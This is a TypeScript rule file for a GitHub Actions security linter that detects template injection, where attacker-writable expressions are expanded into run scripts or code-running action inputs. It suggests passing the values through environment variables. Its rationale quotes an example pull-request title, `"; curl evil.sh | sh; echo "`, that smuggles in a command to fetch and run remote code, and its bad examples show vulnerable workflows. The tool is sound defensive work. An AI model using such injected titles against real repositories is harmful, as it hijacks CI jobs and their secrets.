import { envNameFor, referenceFor, scriptKind } from '../../analysis/env-fix.js';
import { findExpressions } from '../../analysis/expressions.js';
import { taintOfExpression, worst } from '../../analysis/taint.js';
import type { Rule } from '../../core/types.js';
import { allSteps, type Located, type Step, type WorkflowDoc } from '../../parsers/workflow.js';

export { suggestEnvFix } from '../../analysis/env-fix.js';

/**
 * Actions whose inputs are evaluated as code: GitHub CodeQL's `code-injection` sink models
 * (actions/ql/lib/ext/manual, as extracted by zizmor's codeql-injection-sinks.json) plus script runners.
 */
export const CODE_SINKS: Record<string, string[]> = {
  'actions/github-script': ['script'],
  'azure/cli': ['inlineScript'],
  'azure/powershell': ['inlineScript'],
  'appleboy/ssh-action': ['script'],
  'mikefarah/yq': ['cmd'],
  'devorbitus/yq-action-output': ['cmd'],
  'sergeysova/jq-action': ['cmd'],
  'docker/build-push-action': ['context'],
  'roots/issue-closer-action': ['issue-close-message', 'pr-close-message'],
  'lucasbento/auto-close-issues': ['issue-close-message'],
  'imjohnbo/issue-bot': ['body', 'linked-comments-previous-issue-text', 'linked-comments-new-issue-text'],
  '8398a7/action-slack': ['custom_payload'],
  'skitionek/notify-microsoft-teams': ['overwrite'],
  'gautamkrishnar/blog-post-workflow': ['item_exec'],
  'tibdex/backport': ['body_template', 'head_template', 'labels_template', 'title_template'],
  'jannekem/run-python-script-action': ['script'],
  'amadevus/pwsh-script': ['script'],
  'cardinalby/js-eval-action': ['expression'],
};

/** The code-bearing values of a step: its `run:` or the code inputs of a known code-running action. */
function sinks(step: Step): { label: string; value: Located; shell: boolean }[] {
  if (step.run) return [{ label: '`run:` script', value: step.run, shell: scriptKind(step) !== 'cmd' }];
  const action = step.uses?.value.split('@')[0]?.toLowerCase() ?? '';
  const inputs = CODE_SINKS[action] ?? [];
  return inputs.flatMap((i) => {
    const v = [...step.with].find(([k]) => k.toLowerCase() === i.toLowerCase())?.[1];
    return v ? [{ label: `\`${i}\` input of ${action}`, value: v, shell: false }] : [];
  });
}

/** Offsets (relative to `raw`) of lines that are shell comments; heredoc bodies are data, not comments. */
function commentLines(raw: string): [number, number][] {
  const out: [number, number][] = [];
  let heredoc: string | undefined;
  let offset = 0;
  for (const line of raw.split('\n')) {
    const t = line.trim();
    if (heredoc !== undefined) {
      if (t === heredoc) heredoc = undefined;
    } else if (t.startsWith('#')) out.push([offset, offset + line.length]);
    else heredoc = /<<-?\s*(['"]?)([A-Za-z_][\w-]*)\1/.exec(line.replace(/'[^']*'/g, "''"))?.[2] ?? heredoc;
    offset += line.length + 1;
  }
  return out;
}

function triggerText(wf: WorkflowDoc): string {
  if (wf.type === 'action') return 'in a composite action, with whatever its callers pass';
  const names = wf.triggers.map((t) => t.name);
  return names.length ? `on ${names.join(', ')}` : 'in this workflow';
}

export default {
  id: 'template-injection',
  title: 'Expression expanded into a script',
  severity: 'critical',
  area: 'workflows',
  summary:
    'A `${{ … }}` expression whose value an attacker can write (PR title, issue body, branch name, inputs, or an env/output derived from them) is expanded into a `run:` script or the code input of a code-running action.',
  rationale:
    'GitHub substitutes `${{ … }}` into the script text before the shell starts, so quotes do not protect it: a pull request titled ' +
    '`"; curl evil.sh | sh; echo "` becomes code that runs with the job\'s token and secrets. Values that only reach the script through ' +
    '`env:`, a step output, a job output, a string input or a dynamic matrix are reported with lower confidence; booleans, numbers, ' +
    'SHAs, ids, secrets and static values are not reported, nor are values whose characters GitHub restricts so that no shell ' +
    'metacharacter fits: user, organization and app logins (letters, digits, hyphens), repository names and `owner/name` (letters, ' +
    'digits, `.`, `-`, `_`), `author_association`. Branch names are not restricted (`github.head_ref` can be `$(…)`) and stay critical. ' +
    'Text only writers choose (a pushed ref or tag, a release, a `workflow_dispatch` input) is reported at low or medium severity. ' +
    'Lines that are shell comments are not executed and are skipped.',
  fix:
    'Pass the value through an environment variable and reference it quoted: add `env: TITLE: ${{ github.event.pull_request.title }}` ' +
    'to the step and write `"$TITLE"` in the script (`$env:TITLE` in PowerShell, `process.env.TITLE` in github-script).',
  references: [
    'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    'https://docs.zizmor.sh/audits/#template-injection',
    'https://codeql.github.com/codeql-query-help/actions/actions-code-injection-critical/',
  ],
  examples: {
    bad: [
      {
        path: '.github/workflows/greet.yml',
        text: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "Thanks for ${{ github.event.pull_request.title }}"\n',
        line: 6,
      },
      {
        path: '.github/workflows/triage.yml',
        text: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log("${{ github.event.issue.body }}")\n',
        line: 9,
      },
      {
        path: 'action.yml',
        text: "name: greet\nruns:\n  using: composite\n  steps:\n    - run: echo \"Thanks for ${{ github.head_ref }}\"\n      shell: bash\n",
        line: 5,
      },
    ],
    good: [
      {
        path: '.github/workflows/greet.yml',
        text: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "Thanks for $TITLE (#${{ github.event.pull_request.number }})"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n',
      },
    ],
  },
  reads: ['workflow'],
  check(wf, ctx) {
    const seen = new Set<number>();
    for (const { job, step } of allSteps(wf)) {
      for (const sink of sinks(step)) {
        const range = sink.value.node?.range;
        if (!range) continue;
        const raw = wf.text.slice(range[0], range[1]);
        const comments = sink.shell ? commentLines(raw) : [];
        for (const e of findExpressions(raw)) {
          const at = range[0] + e.start;
          if (seen.has(at) || comments.some(([a, b]) => e.start >= a && e.start < b)) continue;
          seen.add(at);
          const t = worst(taintOfExpression(e.body, { wf, job, step }));
          if (!t) continue;
          const text = raw.slice(e.start, e.end);
          const oneLine = text.replace(/\s+/g, ' ');
          const name = envNameFor(oneLine);
          const kind = scriptKind(step);
          const ref = referenceFor(kind, name);
          ctx.report({
            message:
              `\`${oneLine}\` in the ${sink.label} expands ${t.what} ${triggerText(wf)}: the text becomes code. ` +
              `Pass it through \`env:\` (\`${name}: ${oneLine}\`) and use \`${ref}\` instead` +
              (t.fileList && kind === 'shell' ? ` (a list of names: \`for f in $${name}\` splits it without running it; quote \`"$f"\` in the loop body).` : '.'),
            at: wf.file.spanOf({ range: [at, range[0] + e.end, range[0] + e.end] } as unknown as Parameters<typeof wf.file.spanOf>[0]),
            severity: t.severity,
            confidence: t.confidence,
          });
        }
      }
    }
  },
} satisfies Rule<WorkflowDoc>;
